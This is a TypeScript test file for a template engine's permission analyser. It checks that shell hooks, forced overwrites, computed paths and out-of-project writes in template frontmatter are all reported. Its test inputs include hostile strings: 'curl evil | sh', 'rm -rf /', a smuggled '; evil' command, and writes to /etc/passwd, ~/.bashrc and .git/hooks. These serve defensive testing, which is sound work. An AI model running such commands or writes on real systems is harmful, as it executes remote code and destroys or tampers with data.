import { describe, expect, it } from "vitest";
import type { Permissions } from "../../src/content/content.ts";
import { TEMPLATE_BYTES_MAX } from "../../src/content/describe.ts";
import { readFrontmatter } from "../../src/content/frontmatter.ts";
import { derivePermissions } from "../../src/content/permissions.ts";
import { contentOf, marks } from "./files.ts";

/** Permissions of one template, faults and all. */
function permissionsOf(...lines: string[]): Permissions {
  const text = `---\n${lines.join("\n")}\n---\nbody\n`;
  return derivePermissions(
    new Map([["t.tmpl", readFrontmatter("t.tmpl", text, { severity: "warning", optional: false })]]),
    undefined,
  );
}
const whys = (permissions: Permissions) => permissions.anything.map((entry) => entry.why);

describe("permissions", () => {
  it("a harmless template writes one file and may do nothing else", () => {
    expect(permissionsOf("to: src/a.rs")).toEqual({
      shell: [],
      overwrite: [],
      inject: [],
      outputs: ["src/a.rs"],
      anything: [],
    });
  });

  it("each shell key gives its whole command with file, line and time", () => {
    expect(permissionsOf("to: a", "sh: one", "sh_after: two && three").shell).toEqual([
      { file: "t.tmpl", line: 3, when: "before", command: "one" },
      { file: "t.tmpl", line: 4, when: "after", command: "two && three" },
    ]);
    expect(permissionsOf("to: a", "sh_before: x").shell).toMatchObject([{ when: "before", command: "x" }]);
  });

  it("a command over several lines is shown whole", () => {
    expect(permissionsOf("to: a", "sh: |", "  echo good", "  curl evil | sh").shell[0]?.command).toBe(
      "echo good\ncurl evil | sh\n",
    );
    expect(permissionsOf("to: a", "sh: >-", "  echo good", "  ; evil").shell[0]?.command).toBe(
      "echo good ; evil",
    );
    expect(permissionsOf("to: a", 'sh: "good \\x0a evil"').shell[0]?.command).toBe("good \n evil");
  });

  it("a command is never cut", () => {
    const command = "x".repeat(60_000);
    expect(permissionsOf("to: a", `sh: ${command}`).shell[0]?.command).toBe(command);
  });

  it.each([
    ["a list", "sh: [rm, -rf]"],
    ["a map", "sh: { run: rm }"],
    ["a block list", "sh:\n  - rm"],
  ])("a command hidden in %s may be any", (_, line) => {
    const permissions = permissionsOf("to: a", line);
    expect(permissions.shell).toMatchObject([{ command: "any" }]);
    expect(whys(permissions)).toEqual(["its sh is not text"]);
  });

  it("a command that looks like a truth or a number is the command that the engine runs", () => {
    expect(permissionsOf("to: a", "sh: true", "sh_after: 0x10").shell.map((each) => each.command)).toEqual([
      "true",
      "0x10",
    ]);
  });

  it.each(["sh: echo {{ x }}", "sh_after: '{% if a %}b{% endif %}'", "sh_before: a {# b #}"])(
    "a computed command may be any: %s",
    (line) => {
      const permissions = permissionsOf("to: a", line);
      expect(permissions.shell).toMatchObject([{ command: "any" }]);
      expect(whys(permissions)[0]).toMatch(/is computed/);
    },
  );

  it("a command under an unknown key or another spelling counts as anything", () => {
    for (const key of ["SH", "sh_aftr", "hooks"])
      expect(whys(permissionsOf("to: a", `${key}: rm`))[0]).toMatch(/nobody knows/);
  });

  it("unreadable frontmatter counts as anything", () => {
    for (const permissions of [
      permissionsOf("to: &a x"),
      permissionsOf("to: x", "to: y"),
      permissionsOf("to: ["),
    ]) {
      expect(whys(permissions)).toEqual(["its frontmatter cannot be read"]);
      expect(permissions.outputs).toEqual(["any"]);
    }
  });

  it("a template that is not UTF-8, or longer than the limit, counts as anything", () => {
    const large = new Uint8Array(TEMPLATE_BYTES_MAX + 1).fill(0x20);
    const texts = { "x/a.tmpl": Uint8Array.of(0xff), "x/b.tmpl": large };
    expect(whys(contentOf(texts).permissions)).toHaveLength(2);
    expect(marks(texts)).toEqual(["warning NOT_UTF8 x/a.tmpl", "warning TEMPLATE_TOO_LONG x/b.tmpl"]);
  });

  it("force overwrites, inject edits, and so does what only resembles true", () => {
    expect(permissionsOf("to: a", "force: true").overwrite).toEqual([{ file: "t.tmpl", to: "a" }]);
    expect(permissionsOf("to: a", "force: false", "inject: false").overwrite).toEqual([]);
    expect(permissionsOf("to: a", 'force: "true"').overwrite).toHaveLength(1);
    expect(permissionsOf("to: a", "force: yes").overwrite).toHaveLength(1);
    expect(permissionsOf("to: a", "inject: true", "after: x").inject).toEqual([{ file: "t.tmpl", to: "a" }]);
    expect(
      permissionsOf("to: a", "unless_exists: true", "unattended_write_eligible: true").overwrite,
    ).toHaveLength(1);
  });

  it("a computed to is shown as written and counts as anything; any where nothing is fixed", () => {
    const partly = permissionsOf("to: src/{{ name }}.rs", "force: true");
    expect([partly.outputs, partly.overwrite[0]?.to]).toEqual([["src/{{ name }}.rs"], "src/{{ name }}.rs"]);
    expect(whys(partly)[0]).toMatch(/is computed/);
    for (const to of ["'{{ path }}'", "'{% if a %}b{% endif %}'", "'./{{ a }}/{{ b }}'", "'{{ a'"]) {
      const wholly = permissionsOf(`to: ${to}`);
      expect(whys(wholly)[0]).toMatch(/is computed/);
      if (!to.includes("%")) expect(wholly.outputs).toEqual(["any"]);
    }
  });

  it.each([
    ["/etc/passwd", /not inside/],
    ["~/.bashrc", /not inside/],
    ["C:\\\\Windows", /not inside/],
    ["\\\\server", /not inside/],
    ["../x", /may leave/],
    ["a/../../x", /may leave/],
    ["a\\\\..\\\\x", /may leave/],
    ["{{ a }}/../../x", /may leave/],
    [" /etc/passwd", /not inside/],
    [".git/hooks/pre-commit", /\.git/],
    ["x/.GIT/config", /\.git/],
  ])("a to of %s counts as anything", (to, why) => {
    expect(whys(permissionsOf(`to: "${to}"`))[0]).toMatch(why);
  });

  it("a to that is a list or absent counts as anything", () => {
    expect(whys(permissionsOf("to: [a]"))).toEqual(["its to is not text"]);
    expect(whys(permissionsOf("force: true"))).toEqual(["it does not say where it writes"]);
  });

  it("a body, RDF or state outside the project counts as anything", () => {
    expect(
      whys(permissionsOf("to: a", "from: /etc/passwd", "rdf: [ok.ttl, ../x.ttl]", "freeze_slots_dir: ../y")),
    ).toHaveLength(3);
  });

  it("the body decides nothing, whatever it says", () => {
    const text = "---\nto: a\n---\nsh: rm -rf /\n---\nto: /etc/passwd\n---\n";
    expect(contentOf({ "templates/a.tmpl": text }).permissions).toMatchObject({
      shell: [],
      anything: [],
      outputs: ["a"],
    });
  });

  it("every template counts, also outside templates/ and with an upper-case extension", () => {
    const text = "---\nto: a\nsh: x\n---\n";
    expect(contentOf({ "other/a.tmpl": text, "B.TMPL": text }).permissions.shell).toHaveLength(2);
  });

  it("a hook that derives is harmless; any other handler counts as anything", () => {
    const hook = (handler: string) =>
      contentOf({
        "hook.ttl": `@prefix kh: <http://seanchatmangpt.github.io/praxis/kh#> . <#a> a kh:Action ; kh:handler ${handler} .`,
      }).permissions;
    expect(whys(hook("<http://seanchatmangpt.github.io/praxis/handler#sparql-construct>"))).toEqual([]);
    for (const handler of [
      "<http://seanchatmangpt.github.io/praxis/handler#shell-exec>",
      '"sh"',
      "[]",
      "<http://evil/handler#sparql-construct>",
    ])
      expect(whys(hook(handler))[0]).toMatch(/handler/);
  });

  it("an unreadable hook counts as anything", () => {
    expect(whys(derivePermissions(new Map(), { state: "fault", message: "x" }))).toEqual([
      "it cannot be read",
    ]);
  });
});
